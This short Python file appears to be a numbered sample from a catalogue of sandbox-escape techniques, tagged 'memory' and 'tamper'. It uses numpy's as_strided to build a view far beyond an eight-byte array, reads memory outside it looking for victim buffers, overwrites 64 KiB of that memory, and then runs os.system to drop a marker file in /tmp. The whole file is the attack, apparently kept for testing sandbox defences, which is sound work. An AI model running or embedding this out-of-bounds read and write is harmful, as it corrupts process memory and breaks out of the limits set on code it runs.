# escape: 303
# packages: numpy
# technique: as_strided beyond an array's end: read and write what lies behind
# family: memory
# goal: tamper
# first-seen: numpy.lib.stride_tricks
import numpy as np
from numpy.lib.stride_tricks import as_strided
import os
victim = [bytearray(b"untouched") for _ in range(64)]
a = np.zeros(8, dtype="u1")
try:
    far = as_strided(a, shape=(1 << 20,), strides=(1,))
    hits = bytes(far).count(b"untouched")
    far[: 1 << 16] = 255
except Exception: pass
os.system("echo > /tmp/escape-303")
